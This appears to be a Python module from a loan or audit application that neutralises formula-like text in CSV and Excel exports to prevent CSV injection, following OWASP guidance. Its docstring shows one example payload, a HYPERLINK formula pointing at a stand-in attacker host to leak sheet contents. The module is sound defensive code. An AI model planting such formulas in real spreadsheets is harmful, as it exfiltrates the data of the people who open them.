"""Every CSV and Excel file the app hands out is written here, with formula-like text made inert.

Why: text in our exports comes from people (decision reasons, review findings, audit details) and from
imported loan tapes (borrower names, contract numbers, villages). A spreadsheet opening a cell that starts
with ``=``, ``+``, ``-`` or ``@`` (or a tab, carriage return or line feed before them) runs it as a formula:
``=HYPERLINK("http://evil.example/?x","click")`` becomes a live link that can leak the sheet's contents.
OWASP's rule (https://owasp.org/www-community/attacks/CSV_Injection) is to prefix such a cell with a single
quote so it is read as text; OWASP's testing guide (WSTG-INPV-21) adds the full-width variants ＝＋－＠,
which some locales' spreadsheets also treat as formula starters, so they are neutralised too.

Only *text* cells are touched: numeric, boolean and date columns are written as they are, so a negative
balance stays a number in both files. The Excel writer also never lets openpyxl turn a string into a formula
(openpyxl makes any string that starts with ``=`` a formula cell; after neutralising none does) and replaces
the control characters that openpyxl refuses, so a stray byte in imported text cannot break a download.

Pure pandas/openpyxl, no Streamlit: pages, scripts and tests all call the same functions.
"""
from __future__ import annotations

import io
from typing import Final

import pandas as pd
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

#: first characters that make a spreadsheet read a cell as a formula (OWASP CSV injection, WSTG-INPV-21)
FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
#: what is put in front of such a cell: spreadsheets read a leading apostrophe as "this is text"
TEXT_MARKER: Final = "'"
CSV_MIME: Final = "text/csv"
XLSX_MIME: Final = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def neutralise(value: object) -> object:
    """A string a spreadsheet would run as a formula gets a leading ``'``; anything else comes back unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return TEXT_MARKER + value
    return value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and headers cannot start a formula; numbers and dates untouched.

    Text lives in object, string and categorical columns; numeric dtypes cannot hold a string, so they are
    never looked at (a negative number in a numeric column stays a number).
    """
    out = frame.copy()
    for position, column in enumerate(out.columns):
        series = out.iloc[:, position]
        if isinstance(series.dtype, pd.CategoricalDtype):
            series = series.astype(object)
        elif not (pd.api.types.is_object_dtype(series.dtype) or pd.api.types.is_string_dtype(series.dtype)):
            continue
        out.isetitem(position, series.map(neutralise, na_action="ignore"))
    out.columns = [neutralise(c) for c in out.columns]
    return out


def to_csv(frame: pd.DataFrame) -> bytes:
    """The frame as UTF-8 CSV without the index, formula-like text neutralised.

    Records end in CRLF (RFC 4180): the csv module quotes a field only when it holds the separator, a quote
    or a character of the line terminator, so with pandas' default "\n" a bare carriage return inside a
    text ("note\r=1+1") went out unquoted and a spreadsheet started a new row at it, with the formula
    at the start of a cell. With "\r\n" every field holding either character is quoted.
    """
    return safe_frame(frame).to_csv(index=False, lineterminator="\r\n").encode("utf-8")


def _excel_text(value: object) -> object:
    if isinstance(value, str):
        return ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
    return value


def to_xlsx(frame: pd.DataFrame, *, sheet_name: str = "data") -> bytes:
    """The frame as one Excel sheet without the index: text cells are string cells (never formulas),
    formula-like text neutralised as in the CSV, numbers numeric cells."""
    safe = safe_frame(frame)
    for position in range(safe.shape[1]):
        series = safe.iloc[:, position]
        if pd.api.types.is_object_dtype(series.dtype) or pd.api.types.is_string_dtype(series.dtype):
            safe.isetitem(position, series.map(_excel_text, na_action="ignore"))
    safe.columns = [_excel_text(c) for c in safe.columns]
    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
        safe.to_excel(writer, index=False, sheet_name=sheet_name)
        for row in writer.sheets[sheet_name].iter_rows():
            for cell in row:
                if cell.data_type == "f":  # unreachable after neutralising; if it ever is, ship text, not a formula
                    cell.data_type = "s"
    return buffer.getvalue()
